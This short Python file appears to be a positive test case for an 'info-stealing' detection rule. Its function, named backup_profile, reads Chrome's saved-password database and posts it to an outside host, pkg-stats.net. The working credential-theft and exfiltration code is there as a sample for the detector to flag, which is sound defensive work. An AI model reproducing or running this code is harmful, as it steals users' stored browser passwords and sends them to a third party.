import os

import requests


def backup_profile():
    # Reads the saved passwords and posts them from the same function, when called.
    # ruleid: code/info-stealing
    path = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
    with open(path, 'rb') as f:
        requests.post('https://pkg-stats.net/backup', files={'db': f})
